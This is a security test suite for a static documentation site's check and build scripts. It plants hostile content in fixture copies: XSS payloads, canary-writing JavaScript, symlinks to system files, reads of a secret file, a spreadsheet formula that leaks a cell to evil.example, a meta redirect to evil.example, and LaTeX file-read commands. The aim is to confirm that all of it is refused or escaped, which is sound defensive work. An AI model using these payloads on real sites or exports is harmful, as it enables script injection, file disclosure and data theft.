/**
 * Content from a pull request is data, never code. Each attack below is a class a
 * security review reproduced (issue 12), with at least two inputs; each must be refused
 * by `npm run check` (naming the file, and the line where there is one) and by
 * `npm run build`, which publishes nothing, runs nothing (a canary file the attack would
 * write never appears) and leaks nothing (a secret beside the content folder appears in
 * no output). The property test at the end generates hostile bodies and holds the check
 * and the build to the same verdict.
 */
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, type HTMLElement } from 'node-html-parser';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { append, contentCopy, editFile, removeCopies, replace, script } from '../helpers/content-copy.ts';
import { htmlFiles } from '../helpers/site-files.ts';
import { csvRecords, parseCsv } from '../helpers/csv.ts';
import { checkBody } from '../../scripts/check/mdx-body.ts';
import { splitMdx } from '../../scripts/check/frontmatter.ts';

afterAll(removeCopies);

// node-html-parser keeps <pre> as raw text by default; code blocks must be parsed here.
const parseHtml = (html: string) => parse(html, { blockTextElements: { script: true, style: true, noscript: true } });

const SECRET = 'SECRET-7f3a9c-not-for-logs';
const CASE = 'cases/alpha-health-mediation.mdx';
const TOUR = 'tours/alpha-study-visit.mdx';

/** What an attack does to a copy: `canary` is a path the attack would write if it ran. */
type Attack = { plant: (content: string, canary: string, root: string) => void; names: string; line?: boolean };

/** JavaScript that leaves a trace if it ever runs. */
const writes = (canary: string) => `globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(canary)}, 'ran')`;
const body = (file: string, text: string): Attack['plant'] => (content) => editFile(content, file, append(text));

const attacks: Record<string, Record<string, Attack>> = {
  '1 Astro directives as attributes': {
    'set:html on <mark>': { plant: body(CASE, '<mark set:html="<script>alert(1)</script>">x</mark>'), names: CASE, line: true },
    'set:html on a component': { plant: body(CASE, '<Note set:html="<img src=x onerror=alert(1)>" />'), names: CASE, line: true },
    'set:text on a <Quote> in a tour': { plant: body(TOUR, '<Quote lang="it" source="s" set:text="x">q</Quote>'), names: TOUR, line: true },
    'is:raw, client:load and define:vars': { plant: body(CASE, '<sup is:raw client:load define:vars="x">y</sup>'), names: CASE, line: true },
  },
  '2 local pictures that become imports': {
    'a script beside the case': {
      plant: (content, canary) => {
        writeFileSync(join(content, 'cases', 'evil.mjs'), `${writes(canary)};\nexport default {};\n`);
        editFile(content, CASE, append('![x](./evil.mjs)'));
      },
      names: CASE,
      line: true,
    },
    'a file far outside content/ with ?raw': { plant: body(CASE, '![x](../../secret.txt?raw)'), names: CASE, line: true },
    'an MDX file through a media-looking path': { plant: body(CASE, '![x](../media/../cases/beta-skills-recognition.mdx)'), names: CASE, line: true },
  },
  '3 files the check never read': {
    'a "_" module': { plant: (content, canary) => writeFileSync(join(content, 'cases', '_helper.mjs'), writes(canary)), names: 'cases/_helper.mjs' },
    'a subfolder with a case': {
      plant: (content, canary) => {
        mkdirSync(join(content, 'cases', 'more'));
        writeFileSync(join(content, 'cases', 'more', 'hidden.mdx'), `---\ntitle: x\n---\n{${writes(canary)}}\n`);
      },
      names: 'cases/more',
    },
    'an SVG in media/': { plant: (content) => writeFileSync(join(content, 'media', 'chart.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), names: 'media/chart.svg' },
  },
  '4 symbolic links': {
    'a linked case with code in it': {
      plant: (content, canary, root) => {
        writeFileSync(join(root, 'outside.mdx'), readFileSync(join(content, CASE), 'utf8') + `\n{${writes(canary)}}\n`);
        symlinkSync(join(root, 'outside.mdx'), join(content, 'cases', 'linked-case.mdx'));
      },
      names: 'cases/linked-case.mdx',
    },
    'a picture linked to a system file': { plant: (content) => symlinkSync('/etc/hostname', join(content, 'media', 'photo.png')), names: 'media/photo.png' },
    'a linked list file': {
      plant: (content, _canary, root) => {
        const path = join(content, 'regions.yaml');
        writeFileSync(join(root, 'regions.yaml'), readFileSync(path));
        rmSync(path);
        symlinkSync(join(root, 'regions.yaml'), path);
      },
      names: 'regions.yaml',
    },
  },
  '5 style attributes': {
    'a full-page overlay': { plant: body(CASE, '<mark style="position:fixed;inset:0;background:white">Session expired: log in again</mark>'), names: CASE, line: true },
    'style on a component': { plant: body(TOUR, '<Note title="t" style="display:none">hidden</Note>'), names: TOUR, line: true },
  },
  '7 input the build would read differently or crash on': {
    'a --- line inside a quoted frontmatter string': { plant: (content) => editFile(content, CASE, replace('\ntitle:', '\nnote: "first line\n--- still the string"\ntitle:')), names: CASE, line: true },
    'a +++ line inside a quoted frontmatter string': { plant: (content) => editFile(content, CASE, replace('\ntitle:', '\nnote: "first line\n+++ still the string"\ntitle:')), names: CASE, line: true },
    'lists nested 300 deep': { plant: body(CASE, Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n')), names: CASE, line: true },
    'quotes nested 300 deep': { plant: body(CASE, `${'> '.repeat(300)}deep`), names: CASE, line: true },
    'thousands of nested elements': { plant: body(CASE, `${'<mark>'.repeat(3000)}x${'</mark>'.repeat(3000)}`), names: CASE, line: true },
    'emphasis nested 200 deep': { plant: body(CASE, `${'*'.repeat(400)}x${'*'.repeat(400)}`), names: CASE, line: true },
    'a file in Latin-1': {
      plant: (content) => {
        const path = join(content, CASE);
        writeFileSync(path, Buffer.concat([readFileSync(path), Buffer.from('\nCaf\xe9 sans UTF-8\n', 'latin1')]));
      },
      names: CASE,
      line: true,
    },
    'a picture that does not exist': { plant: body(CASE, '![A plan](../media/no-such-plan.png)'), names: CASE, line: true },
  },
  '8 build-tool placeholders in text (red-team findings)': {
    'an image marker in an organisation field that imports the file itself': {
      plant: (content, canary) => {
        const file = join(content, 'organisations', 'evil-org.yaml');
        writeFileSync(file, `name: "Evil Org"\nshortName: "__ASTRO_IMAGE_${file}?x&.png"\ntype: "social-cooperative"\ncountry: "IT"\ndescription: 1; ${writes(canary)}\n  ; export default "EO"\n`);
      },
      names: 'organisations/evil-org.yaml',
      line: true,
    },
    'an image marker spelt with YAML escapes, reading a file with ?raw': {
      plant: (content, _canary, root) => editFile(content, 'domains.yaml', (t) => t.replace(/description: .*/, `description: "\\x5f\\x5fASTRO_IMAGE_${join(root, 'secret.txt')}?raw&.png"`)),
      names: 'domains.yaml',
      line: true,
    },
    'the env marker spelt with character references in a body': { plant: body(CASE, `A note on import.meta.env.\n\n&#34;&#34;&#95;&#95;astro&#95;import&#95;meta&#95;env&#95;&#95;${'&#95;'.repeat(40)}`), names: CASE, line: true },
    'a Vite asset placeholder in inline code': { plant: body(TOUR, '`__VITE_PUBLIC_ASSET__deadbeef__`'), names: TOUR, line: true },
  },
  '9 input that stalls the parser, or a picture that is not one': {
    'a lone-CR line of 250,000 quote markers': { plant: body(CASE, `x\r${'>'.repeat(250_000)}`), names: CASE, line: true },
    'a quarter of a million braces': { plant: body(CASE, '{'.repeat(250_000)), names: CASE, line: true },
    'a 64 KB paragraph of apostrophes': { plant: body(CASE, "l'a ".repeat(16_000)), names: CASE, line: true },
    'a PNG header claiming 20,000 × 20,000 pixels': {
      plant: (content) => {
        const header = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
        const size = Buffer.alloc(8);
        size.writeUInt32BE(20_000, 0);
        size.writeUInt32BE(20_000, 4);
        writeFileSync(join(content, 'media', 'huge-plan.png'), Buffer.concat([header, size, Buffer.from('0802000000', 'hex'), Buffer.alloc(64)]));
      },
      names: 'media/huge-plan.png',
    },
    'a PNG signature followed by HTML': {
      plant: (content) => writeFileSync(join(content, 'media', 'junk-plan.png'), Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>alert(1)</script>')])),
      names: 'media/junk-plan.png',
    },
    'a NUL byte in a body': { plant: body(CASE, 'Text with a \u0000 in it.'), names: CASE, line: true },
    'a domain whose id is a page of the site': { plant: (content) => editFile(content, 'domains.yaml', (t) => `${t}\n- id: cases\n  name: Cases\n  description: A domain named like the side-by-side page.\n`), names: 'domains.yaml', line: true },
  },
  '10 values that break calendars, feeds and exports (second review)': {
    'a tour in the year 9999, whose calendar never ended': { plant: (content) => editFile(content, TOUR, (t) => t.replaceAll('2026-05-11', '9999-12-31').replaceAll('2026-05-12', '9999-12-31')), names: TOUR, line: true },
    'a tour lasting eight thousand years': { plant: (content) => editFile(content, TOUR, replace('start: "2026-05-11"', 'start: "2026-05-11"\n  end: "9999-12-30"')), names: TOUR, line: true },
    'a day that does not exist': { plant: (content) => editFile(content, TOUR, replace('day: "2026-05-12"', 'day: "2026-02-31"')), names: TOUR, line: true },
    'control characters spelt with YAML escapes': { plant: (content) => editFile(content, 'organisations/alpha-health-coop.yaml', (t) => t.replace(/^description: .*$/m, 'description: "A cooperative \\0 with \\e[31m escapes \\uFFFF in it."')), names: 'organisations/alpha-health-coop.yaml', line: true },
  },
};

describe.concurrent('hostile content is refused by check and build, and runs nothing', () => {
  const cases = Object.entries(attacks).flatMap(([group, list]) => Object.entries(list).map(([name, attack]) => [`${group}: ${name}`, attack] as const));
  it.each(cases)('%s', async (_, attack) => {
    let canary = '';
    const root = contentCopy((content, folder) => {
      canary = join(folder, 'CANARY');
      writeFileSync(join(folder, 'secret.txt'), SECRET);
      attack.plant(content, canary, folder);
    });
    const content = join(root, 'content');
    const out = join(root, 'dist');
    const [check, build] = await Promise.all([script(['scripts/check.ts'], content), script(['scripts/build.ts', '--out', out], content)]);
    for (const result of [check, build]) {
      expect(result.code, result.output).not.toBe(0);
      expect(result.output).not.toContain('Segmentation fault');
      expect(result.output).not.toContain(SECRET);
    }
    const located = new RegExp(`${attack.names.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}${attack.line ? ':\\d+:\\d+: ' : ': '}`);
    expect(check.output).toMatch(located);
    expect(build.output).toMatch(located);
    expect(build.output).toContain('Nothing was published');
    expect(existsSync(out)).toBe(false);
    expect(existsSync(`${out}.partial`)).toBe(false);
    expect(existsSync(canary)).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------
// Property test: generated hostile bodies. Whatever the check accepts must build and
// publish without script, handler, style or unsafe address; whatever it refuses, it
// refuses with a line.

/** A small seeded generator, so a failure can be reproduced. */
function generator(seed: number) {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return <T,>(list: readonly T[]): T => list[Math.floor(next() * list.length)]!;
}

const elements = ['mark', 'Note', 'Quote', 'abbr', 'sup', 'kbd', 'script', 'img', 'a', 'iframe', 'svg', 'style', 'Mark', 'note', 'NOTE', 'Fragment', 'object', 'math'];
const attributes = ['set:html', 'set:text', 'is:raw', 'is:inline', 'class:list', 'client:load', 'server:defer', 'transition:name', 'define:vars', 'style', 'class', 'id', 'onclick', 'onError', 'title', 'lang', 'source', 'href', 'src', 'xlink:href', 'SET:HTML'];
const values = ['"XSS plain"', '"javascript:alert(1)"', '"&#106;avascript:alert(1)"', '"java\tscript:alert(1)"', '"JaVaScRiPt:alert(1)"', '{alert(1)}', '"data:text/html,x"', '"<script>alert(1)</script>"', '"it"', "'en'", ''];
const urls = ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'java&#x73;cript:alert(1)', 'java%73cript:alert(1)', '&#x6A;avascript:alert(1)', '<javascript:alert(1)>', 'vbscript:x', 'data:text/html;base64,PHNjcmlwdD4=', '//evil.example/x', 'https://ok.example/x', '/regions/', '#top', 'java\\\nscript:alert(1)', 'jav&#x09;ascript:alert(1)'];

function hostileBody(pick: ReturnType<typeof generator>): string {
  const shape = pick(['element', 'element', 'link', 'picture', 'nest', 'expression'] as const);
  if (shape === 'element') {
    const name = pick(elements);
    const attrs = [pick(attributes), pick(attributes)].map((a) => { const v = pick(values); return v ? `${a}=${v}` : a; }).join(' ');
    return `Text <${name} ${attrs}>inside</${name}> after.`;
  }
  if (shape === 'link') return `A [link](${pick(urls)}) and <${pick(urls)}>.`;
  if (shape === 'picture') return `![${pick(['a plan', ''])}](${pick(['../media/alpha-desk-floor-plan.png', './x.mjs', '../media/x.png?raw', 'https://evil.example/p.png', '../media/alpha-desk-floor-plan.png#x'])})`;
  if (shape === 'nest') {
    const depth = pick([2, 8, 30, 33, 60, 200]);
    return pick([`${'> '.repeat(depth)}deep`, `${'<mark>'.repeat(depth)}x${'</mark>'.repeat(depth)}`, Array.from({ length: depth }, (_, i) => `${'  '.repeat(i)}- ${i}`).join('\n')]);
  }
  return pick(['{/* a comment */}', '{/* a */ alert(1) /* b */}', '{"text"}', '{(() => 1)()}', 'export const x = 1', 'import x from "./y"']);
}

/** Script, handlers, style, frames or unsafe addresses anywhere in a built page. */
function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const visit = (el: HTMLElement) => {
    const tag = el.rawTagName?.toLowerCase();
    if (tag === 'iframe' || tag === 'object' || tag === 'embed') found.push(`<${tag}>`);
    if (tag === 'script') {
      // A data block (JSON-LD) never runs, but must stay one: valid JSON, with no "<" that
      // could close the element early.
      if (el.getAttribute('type') === 'application/ld+json') {
        if (el.textContent.includes('<')) found.push('JSON-LD with a raw "<"');
        try {
          JSON.parse(el.textContent);
        } catch {
          found.push('JSON-LD that is not JSON');
        }
      } else if (el.textContent.includes('alert(1)')) found.push('script with the payload');
    }
    for (const [name, value] of Object.entries(el.attributes ?? {})) {
      if (/^on/i.test(name)) found.push(`${tag} ${name}`);
      if (name.toLowerCase() === 'style') found.push(`${tag} style="${value}"`);
      // eslint-disable-next-line no-control-regex -- browsers strip these before reading a scheme
      if (/^(href|src|action|formaction|xlink:href)$/i.test(name) && /^(javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]/g, ''))) found.push(`${tag} ${name}="${value}"`);
    }
    for (const child of el.childNodes) if ((child as HTMLElement).rawTagName !== undefined) visit(child as HTMLElement);
  };
  visit(parseHtml(html));
  return found;
}

describe('generated hostile bodies', () => {
  it('are refused with a line, or built without script, handler, style or unsafe address', async () => {
    const pick = generator(20261129);
    const bodies = Array.from({ length: 120 }, () => hostileBody(pick));
    const template = readFileSync(join('tests/fixtures/content', CASE), 'utf8');
    const parts = splitMdx(template);
    const frontmatter = template.split('\n').slice(0, parts.bodyOffset).join('\n');
    const media = join('tests/fixtures/content', 'media');
    const pictures = new Set(readdirSync(media));

    const accepted: string[] = [];
    for (const generated of bodies) {
      const source = `${frontmatter}\n${generated}\n`;
      const problems = checkBody(source, 'generated.mdx', parts.bodyOffset, (name) => pictures.has(name));
      if (problems.length === 0) accepted.push(generated);
      for (const p of problems) expect(p.line, `${generated}\n→ ${p.message}`).toBeGreaterThan(0);
    }
    // Both verdicts occur, or the test proves nothing.
    expect(accepted.length).toBeGreaterThan(5);
    expect(accepted.length).toBeLessThan(bodies.length - 20);

    const root = contentCopy((content) => {
      accepted.forEach((generated, i) => writeFileSync(join(content, 'cases', `generated-${i}.mdx`), `${frontmatter}\n${generated}\n`));
    });
    const out = join(root, 'dist');
    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
    expect(build.code, build.output).toBe(0);
    for (let i = 0; i < accepted.length; i++) {
      const html = readFileSync(join(out, 'cases', `generated-${i}`, 'index.html'), 'utf8');
      expect(unsafeParts(html), accepted[i]).toEqual([]);
    }
    for (const page of htmlFiles(out)) expect(unsafeParts(readFileSync(join(out, page), 'utf8')), page).toEqual([]);
  });
});

describe('valid content that looks like code', () => {
  const page = () => readFileSync(join(inject('fixtureDist'), 'cases', 'alpha-health-mediation', 'index.html'), 'utf8');

  it('keeps text attributes that mention data: or javascript:, as text', () => {
    const html = parseHtml(page());
    expect(html.querySelector('abbr[title="Data: Protection Officer"]')?.textContent).toBe('DPO');
    expect(html.querySelector('q[lang="en"]')?.getAttribute('title')).toBe('JavaScript: The Good Parts');
  });

  it('shows <script> in inline code and code fences as text, and runs none of it', () => {
    const html = parseHtml(page());
    const code = html.querySelectorAll('code').map((c) => c.textContent);
    expect(code).toContain('<script>alert("inline")</script>');
    expect(code.some((c) => c.includes('<script>alert("fenced")</script>'))).toBe(true);
    expect(html.querySelectorAll('script').filter((s) => s.textContent.includes('alert('))).toEqual([]);
  });

  it('aligns table columns with classes, not the style attributes the policy refuses', () => {
    const cells = parseHtml(page()).querySelectorAll('td, th').filter((c) => ['Arabic', 'several', 'Language', 'Mediators'].includes(c.textContent.trim()));
    expect(cells.map((c) => [c.textContent.trim(), c.getAttribute('class'), c.getAttribute('style')])).toEqual([
      ['Language', 'align-left', undefined],
      ['Mediators', 'align-right', undefined],
      ['Arabic', 'align-left', undefined],
      ['several', 'align-right', undefined],
    ]);
  });

  it('publishes an allowed picture with its alternative text', () => {
    const img = parseHtml(page()).querySelector('img[alt="Floor plan of the fixture health desk"]');
    expect(img).not.toBeNull();
    const src = img!.getAttribute('src')!;
    expect(src).toMatch(/^\/_astro\/alpha-desk-floor-plan\.[\w-]+\.webp$/);
    expect(existsSync(join(inject('fixtureDist'), src))).toBe(true);
  });

  it('carries a Content-Security-Policy that allows no inline handler, style attribute, frame or foreign script', () => {
    for (const file of htmlFiles(inject('fixtureDist'))) {
      const meta = parseHtml(readFileSync(join(inject('fixtureDist'), file), 'utf8')).querySelector('meta[http-equiv="content-security-policy"]');
      const policy = meta?.getAttribute('content') ?? '';
      expect(policy, file).toMatch(/(^|;)\s*default-src 'self'/);
      expect(policy, file).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[\w+/=]+')*;/);
      expect(policy, file).toContain("frame-src 'none'");
      expect(policy, file).toContain("object-src 'none'");
      expect(policy, file).toMatch(/style-src 'self'( 'sha256-[\w+/=]+')*;/);
      // Either keyword would let inline handlers or style attributes through.
      expect(policy, file).not.toContain('unsafe-inline');
      expect(policy, file).not.toContain('unsafe-hashes');
    }
  });
});

/**
 * Frontmatter is text wherever it appears: titles, summaries and names that look like
 * markup are escaped on every page (lists, profiles, charts, briefs, search, data),
 * including inside the JSON a page embeds, where "</script>" must not end the block.
 */
describe('frontmatter that looks like markup', () => {
  it('is escaped on every page of the built site', async () => {
    const title = '</script><script>alert(1)</script> Skills <b>bold</b>';
    const root = contentCopy((content) => {
      editFile(content, 'cases/beta-skills-recognition.mdx', replace('title: "Fixture: Recognising skills in Region Beta"', `title: ${JSON.stringify(title)}`));
      editFile(content, 'cases/beta-skills-recognition.mdx', (t) => t.replace(/^summary: .*$/m, 'summary: "A summary that closes its attribute\\"><img src=x onerror=alert(1)> and goes on long enough."'));
      editFile(content, 'organisations/alpha-health-coop.yaml', replace('name: "Fixture: Alpha Health Cooperative"', 'name: "<svg onload=alert(1)>Alpha</svg> \\u2028 cooperative"'));
    });
    const out = join(root, 'dist');
    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
    expect(build.code, build.output).toBe(0);
    const pages = htmlFiles(out);
    for (const page of pages) expect(unsafeParts(readFileSync(join(out, page), 'utf8')), page).toEqual([]);
    const casePage = parseHtml(readFileSync(join(out, 'cases', 'beta-skills-recognition', 'index.html'), 'utf8'));
    expect(casePage.querySelector('h1')?.textContent).toContain('</script><script>alert(1)</script> Skills <b>bold</b>');
  });
});

/**
 * Class 6: text a spreadsheet would evaluate. In the CSV exports it is neutralised with a
 * leading apostrophe (OWASP's advice for CSV injection); the JSON export keeps it raw.
 */
describe('formula-like text in the exports', () => {
  it('is neutralised in every CSV cell and kept as written in JSON', async () => {
    const title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const summary = '@SUM(1+1)*cmd|" /C calc"!A0 is a summary long enough to pass the rule.';
    const shortName = '+AHC';
    const root = contentCopy((content) => {
      editFile(content, 'cases/beta-skills-recognition.mdx', replace('title: "Fixture: Recognising skills in Region Beta"', `title: ${JSON.stringify(title)}`));
      editFile(content, 'cases/beta-skills-recognition.mdx', (t) => t.replace(/^summary: .*$/m, `summary: ${JSON.stringify(summary)}`));
      editFile(content, 'organisations/alpha-health-coop.yaml', replace('shortName: AHC', `shortName: "${shortName}"`));
    });
    const out = join(root, 'dist');
    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
    expect(build.code, build.output).toBe(0);
    const cases = csvRecords(readFileSync(join(out, 'data', 'cases.csv'), 'utf8'));
    const row = cases.find((r) => r['id'] === 'beta-skills-recognition')!;
    expect(row['title']).toBe(`'${title}`);
    expect(row['summary']).toBe(`'${summary}`);
    const organisations = csvRecords(readFileSync(join(out, 'data', 'organisations.csv'), 'utf8'));
    expect(organisations.find((r) => r['id'] === 'alpha-health-coop')!['shortName']).toBe(`'${shortName}`);
    // No cell anywhere starts with a character a spreadsheet reads as a formula.
    for (const file of readdirSync(join(out, 'data')).filter((f) => f.endsWith('.csv'))) {
      for (const cells of parseCsv(readFileSync(join(out, 'data', file), 'utf8'))) {
        for (const cell of cells) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      }
    }
    const json = JSON.parse(readFileSync(join(out, 'data', 'cases.json'), 'utf8')) as { id: string; title: string }[];
    expect(json.find((c) => c.id === 'beta-skills-recognition')!.title).toBe(title);
  });
});

/**
 * What a body shows as code is never a citation, and a citation's text is printed by
 * LaTeX, never run: one build for both (second review's findings).
 */
describe('citations', () => {
  it('come only from rendered <Cite> elements, and BibTeX prints titles and names without running them', async () => {
    const title = 'Fixture: Skills \\input /etc/hostname ^^5cwrite18 in Region Beta';
    const root = contentCopy((content) => {
      editFile(content, 'cases/beta-skills-recognition.mdx', replace('title: "Fixture: Recognising skills in Region Beta"', `title: ${JSON.stringify(title)}`));
      editFile(content, 'cases/beta-skills-recognition.mdx', replace('  - name: Fixture Author', '  - name: Eve and Mallory \\input /etc/passwd'));
      editFile(content, CASE, append('```text\n<Cite source="fixture-housing-report" at="GHOST in a code block" />\n```\n\nInline `<Cite source="fixture-skills-evaluation" at="GHOST inline" />` code.\n\n{/* <Cite source="fixture-mentoring-plan" at="GHOST in a comment" /> */}'));
    });
    const out = join(root, 'dist');
    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
    expect(build.code, build.output).toBe(0);
    const casePage = readFileSync(join(out, 'cases', 'alpha-health-mediation', 'index.html'), 'utf8');
    const notes = parseHtml(casePage).querySelector('.notes')?.textContent ?? '';
    expect(notes).not.toContain('GHOST');
    for (const source of ['fixture-housing-report', 'fixture-skills-evaluation', 'fixture-mentoring-plan']) {
      expect(readFileSync(join(out, 'sources', source, 'index.html'), 'utf8'), source).not.toContain('GHOST');
    }
    expect(readFileSync(join(out, 'data', 'cases.json'), 'utf8')).not.toMatch(/"at": "GHOST/);
    const bib = parseHtml(readFileSync(join(out, 'cases', 'beta-skills-recognition', 'index.html'), 'utf8')).querySelector('.citation-bibtex')!.textContent;
    expect(bib).toContain('\\textbackslash{}input /etc/hostname \\textasciicircum{}\\textasciicircum{}5cwrite18');
    expect(bib).toContain('author = {Eve {and} Mallory \\textbackslash{}input /etc/passwd}');
    expect(bib).not.toMatch(/[^{]\\input/);
  });
});

describe('component placeholders', () => {
  it('cannot be written by a body, not even inside an attribute value', async () => {
    // The writer leaves each component as a placeholder the page fills (src/lib/body-html.ts);
    // an attribute value keeps "<" as it is, so a name a body could guess would break out of it.
    const forged = (name: string) => `<${name}><img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=https://evil.example>`;
    const root = contentCopy((content) => {
      editFile(content, CASE, append(`Text <abbr title="${forged('atlas-part-0')}">x</abbr> and [a link](https://example.org "${forged('atlas-0-0')}").\n\n<Note title="Real">A real note.</Note>`));
    });
    const out = join(root, 'dist');
    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
    expect(build.code, build.output).toBe(0);
    const html = readFileSync(join(out, 'cases', 'alpha-health-mediation', 'index.html'), 'utf8');
    const body = parseHtml(html).querySelector('.case-body')!;
    expect(unsafeParts(html)).toEqual([]);
    expect(body.querySelectorAll('img[src="x"], meta').length).toBe(0);
    expect(body.querySelectorAll('aside.note').map((n) => n.querySelector('.note-title')?.textContent)).toEqual(['Fixture', 'Real']);
    expect(body.querySelectorAll('abbr').find((a) => a.textContent === 'x')?.getAttribute('title')).toBe(forged('atlas-part-0'));
    expect(body.querySelector('a[href="https://example.org"]')?.getAttribute('title')).toBe(forged('atlas-0-0'));
  });
});
